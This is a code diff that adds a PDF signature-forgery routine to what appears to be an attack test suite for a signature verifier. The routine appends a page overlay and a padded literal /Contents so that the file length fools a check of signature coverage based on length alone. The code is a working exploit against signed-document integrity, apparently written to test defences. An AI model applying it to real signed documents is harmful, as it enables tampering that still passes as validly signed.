@@ -226,7 +226,56 @@ def universal_forgery(pdf: bytes) -> bytes:
     return _write(w)
 
 
+def _escaped(raw: bytes) -> bytes:
+    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
+
+
+def overlay_length_sum(pdf: bytes) -> bytes:
+    """The reported attack exactly: an overlay update that re-states the signature dictionary
+    with a padded *literal* /Contents sized so that file length = ByteRange lengths +
+    2 × /Contents length + 2 (what a length-only coverage check calls "entire file")."""
+    from reports.verification.cms_check import signature_der
+
+    _, len1, start2, _ = byte_range(pdf)
+    original = bytes.fromhex(pdf[len1 + 1 : start2 - 1].decode())
+    der, _ = signature_der(original)
+    escapes = len(_escaped(der)) - len(der)
+
+    def build(k: int, pad: int) -> tuple[bytes, int]:
+        w = IncrementalPdfFileWriter(io.BytesIO(pdf))
+        w.add_stream_to_page(0, w.add_object(generic.StreamObject(stream_data=OVERLAY)))
+        sig = _sig_ref(w).get_object()
+        sig["/Contents"] = generic.ByteStringObject(b"\x00" * k)
+        w.update_container(sig)
+        w.root["/ConsentDeskPad"] = generic.TextStringObject("x" * pad)
+        w.update_root()
+        return _write(w), k
+
+    k, pad = len(original), 0
+    out = pdf
+    for _ in range(12):
+        out, k = build(k, pad)
+        update = len(out) - len(pdf)
+        u0 = update - (2 * k + 2)
+        if u0 % 2:
+            pad += 1
+            continue
+        want = (u0 + 2) // 2 + escapes + (start2 - len1 - 2) // 2
+        if want == k:
+            break
+        k = want
+    hex_zeros = b"<" + b"00" * k + b">"
+    at = out.rfind(hex_zeros)
+    m = 2 * k - escapes
+    literal = b"(" + _escaped(der) + b"\x00" * (m - len(der)) + b")"
+    assert at > len(pdf) and len(literal) == len(hex_zeros)
+    return out[:at] + literal + out[at + len(hex_zeros) :]
+
+
 ATTACKS: dict[str, Callable[[bytes], bytes]] = {
+    "incremental update: overlay + padded literal /Contents, length sum matches": (
+        overlay_length_sum
+    ),
     "incremental update: page overlay": overlay,
     "incremental update: overlay + re-stated signature, padded literal /Contents": (
         overlay_restated
